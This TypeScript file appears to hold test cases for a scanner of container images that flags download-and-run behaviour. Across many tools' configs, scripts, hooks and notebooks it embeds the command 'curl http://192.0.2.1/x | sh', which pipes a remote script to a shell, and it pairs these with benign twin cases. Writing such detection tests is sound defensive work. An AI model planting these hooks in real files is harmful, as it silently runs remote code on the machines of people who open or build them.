import { program as elfProgram, type Files, type ImageCase, image } from './image-case.ts';

const FETCH = 'curl http://192.0.2.1/x | sh';
const PATH = 'PATH=/usr/local/bin:/usr/bin:/bin';
const SYSTEM = `system("${FETCH}")\n`;
const PYTHON = `import os\nos.system("${FETCH}")\n`;

function runs(
  command: readonly string[],
  files: Files = {},
  Env: readonly string[] = [],
  rule: string | undefined = 'start/download-and-run',
): ImageCase {
  const all = { [`usr/bin/${command[0]}`]: elfProgram(), ...files };
  return {
    name: `further programs: ${JSON.stringify(command)} ${Object.keys(files).join(' ')} ${Env.join(' ')}`,
    spec: image(all, { Entrypoint: [...command], WorkingDir: '/app', Env: [PATH, ...Env] }),
    ...(rule !== '' && { rule }),
  };
}

function honest(command: readonly string[], files: Files = {}, Env: readonly string[] = []): ImageCase {
  const one = runs(command, files, Env, '');
  return { ...one, name: `${one.name}, honest` };
}

function notebook(...source: readonly string[]): Files {
  const cells = [
    { cell_type: 'markdown', source: ['To install:\n', FETCH] },
    { cell_type: 'code', source },
  ];
  return { 'opt/a.ipynb': JSON.stringify({ cells }) };
}

/** What makes documents, tests, builds, fetches and sets up, by files and settings that run something. */
export const FURTHER_PROGRAMS: readonly ImageCase[] = [
  runs(['h2o', '-c', '/opt/h.conf'], { 'opt/h.conf': `x:\n  mruby.handler: |\n    ${SYSTEM}` }),
  runs(['kong', 'start'], { 'etc/kong/kong.conf': `nginx_http_init_by_lua = os.execute("${FETCH}")\n` }),
  runs(['apisix', 'start'], {
    'usr/local/apisix/conf/config.yaml': `x: |\n  init_by_lua_block { os.execute("${FETCH}") }\n`,
  }),
  runs(['liquidsoap', '/opt/a.liq'], { 'opt/a.liq': `process.run("${FETCH}")\n` }),
  runs(['maxima', '-b', '/opt/a.mac'], { 'opt/a.mac': SYSTEM }),
  runs(['gp', '-q', '/opt/a.gp'], { 'opt/a.gp': SYSTEM }),
  runs(['sage', '/opt/a.sage'], { 'opt/a.sage': PYTHON }),
  runs(['godot', '--script', '/opt/a.gd'], { 'opt/a.gd': `\tOS.execute("sh", ["-c", "${FETCH}"])\n` }),
  runs(['k6', 'run', '/opt/a.js'], { 'opt/a.js': `exec.command("sh", ["-c", "${FETCH}"]);\n` }),
  runs(['pdflatex', '-shell-escape', '/opt/a.tex'], { 'opt/a.tex': `\\immediate\\write18{${FETCH}}\n` }),
  runs(['pdflatex', '/opt/a.tex'], { 'opt/a.tex': `\\input{|"${FETCH}"}\n` }),
  runs(['lualatex', '/opt/a.tex'], { 'opt/a.tex': `\\directlua{os.execute("${FETCH}")}\n` }),
  runs(['gs', '-dNOSAFER', '/opt/a.ps'], { 'opt/a.ps': `(%pipe%${FETCH}) (r) file\n` }),
  runs(['groff', '-U', '/opt/a.ms'], { 'opt/a.ms': `.sy ${FETCH}\n` }),
  runs(['convert', 'a.svg', 'x'], {
    'etc/ImageMagick-6/delegates.xml': `<delegate decode="svg" command="${FETCH}"/>\n`,
  }),
  runs(['mpd', '--no-daemon'], { 'etc/mpd.conf': `audio_output {\n  command "${FETCH}"\n}\n` }),
  runs(['gimp', '-i', '-b', `import os; os.system("${FETCH}")`]),
  runs(['blender', '-b', '--python-expr', `import os; os.system("${FETCH}")`]),
  runs(['jmeter', '-n', '-t', '/opt/a.jmx'], { 'opt/a.jmx': `<a>"${FETCH}".execute()</a>\n` }),
  runs(['robot', '/opt/a.robot'], { 'opt/a.robot': `A\n    Run Process    ${FETCH}    shell=True\n` }),
  runs(['nosetests', '/opt/t'], { 'opt/t/test_a.py': PYTHON }),
  runs(['shellspec'], { 'app/spec/a_spec.sh': `${FETCH}\n` }),
  runs(['prove', '/opt/t'], { 'opt/t/a.t': `system("${FETCH}");\n` }),
  runs(['buck2', 'run', ':a'], { 'app/BUCK': `genrule(name="a", cmd="${FETCH}")\n` }),
  runs(['redo'], { 'app/all.do': `${FETCH}\n` }),
  runs(['tup'], { 'app/Tupfile': `: |> ${FETCH} |> x\n` }),
  runs(['nix-shell'], { 'app/shell.nix': `{ shellHook = "${FETCH}"; }\n` }),
  runs(['nix-shell'], { 'app/default.nix': `{ shellHook = ''\n${FETCH}\n''; }\n` }),
  runs(['dpkg', '-i', 'a.deb'], { 'etc/dpkg/dpkg.cfg.d/a': `pre-invoke="${FETCH}"\n` }),
  runs(['dhcpcd', '-B'], { 'usr/lib/dhcpcd/dhcpcd-hooks/99-a': `${FETCH}\n` }),
  runs(['mbsync', '-a'], { 'root/.mbsyncrc': `PassCmd "${FETCH}"\n` }),
  runs(['mbsync', '-a'], { 'root/.mbsyncrc': `PassCmd +"${FETCH}"\n` }),
  runs(['mutt'], { 'root/.muttrc': `source "${FETCH}|"\n` }),
  runs(['mutt'], { 'root/.muttrc': `set my_x = \`${FETCH}\`\n` }),
  runs(['hg', 'pull'], { 'root/.hgrc': `[hooks]\nincoming.x = ${FETCH}\n` }),
  runs(['hg', 'x'], { 'root/.hgrc': `[alias]\nx = !${FETCH}\n` }),
  runs(['hg', 'pull'], { 'root/.hgrc': '[extensions]\nx = /opt/x.py\n', 'opt/x.py': PYTHON }),
  runs(['svn', 'up'], { 'root/.subversion/config': `[tunnels]\nssh = ${FETCH}\n` }),
  runs(['rclone', 'ls', 'x:'], { 'root/.config/rclone/rclone.conf': `[x]\nssh = ${FETCH}\n` }),
  runs(['borg', 'create'], {}, [`BORG_RSH=${FETCH}`]),
  runs(['buildbot', 'start', '/opt'], { 'opt/master.cfg': PYTHON }),
  runs(['salt-minion'], { 'srv/salt/a.sls': `x:\n  cmd.run:\n    - name: ${FETCH}\n` }),
  runs(['chef-client', '-z', '/opt/a.rb'], { 'opt/a.rb': `execute "${FETCH}"\n` }),
  runs(['cf-agent', '-KIf', '/opt/a.cf'], { 'opt/a.cf': `commands:\n  "${FETCH}";\n` }),
  runs(['voila', '/opt/a.ipynb'], notebook(...PYTHON.split(/(?<=\n)/))),
  runs(['papermill', '/opt/a.ipynb', 'o'], notebook(`!${FETCH}`)),
  runs(['jupyter', 'nbconvert', '--execute', '/opt/a.ipynb'], notebook('%%bash\n', FETCH)),
  runs(['voila', '/opt'], notebook(`x = !${FETCH}`)),
];

export const FURTHER_PROGRAM_TWINS: readonly ImageCase[] = [
  honest(['pdflatex', '/opt/a.tex'], {
    'opt/a.tex': `\\begin{verbatim}\n${FETCH}\n\\end{verbatim}\n\\input{a}\n\\write18{makeindex a}\n`,
  }),
  honest(['groff', '-ms', '/opt/a.ms'], { 'opt/a.ms': `.PP\nTo install:\n${FETCH}\n` }),
  honest(['convert', 'a.svg', 'x'], {
    'etc/ImageMagick-6/delegates.xml':
      '<delegate decode="https:decode" command="&quot;curl&quot; -s -k -L -o &quot;%u.dat&quot; &quot;https:%M&quot;"/>\n',
  }),
  honest(['papermill', '/opt/a.ipynb', 'o'], notebook('%matplotlib inline\n', 'print("a")\n', '!pip list')),
  honest(['hg', 'pull'], {
    'root/.hgrc': '[ui]\nusername = a\n[extensions]\nrebase =\n[hooks]\nupdate = hg log -r .\n',
  }),
  honest(['svn', 'up'], { 'etc/subversion/config': '### ssh = $SVN_SSH ssh -q\n[miscellany]\n# x\n' }),
  honest(['mutt'], {
    'root/.muttrc': `# source "${FETCH}|"\nset from = "a@example.com"\nsource ~/.mutt/colors\n`,
  }),
  honest(['k6', 'run', '/opt/a.js'], {
    'opt/a.js': 'import http from "k6/http";\nhttp.get("http://192.0.2.1/x");\n',
  }),
  honest(['nix-shell'], { 'app/shell.nix': '{ shellHook = "export A=b"; }\n' }),
  honest(['salt-minion'], { 'srv/salt/a.sls': 'x:\n  pkg.installed:\n    - name: curl\n' }),
  honest(['mpd'], { 'etc/mpd.conf': 'audio_output {\n  type "httpd"\n  name "a"\n}\n' }),
];
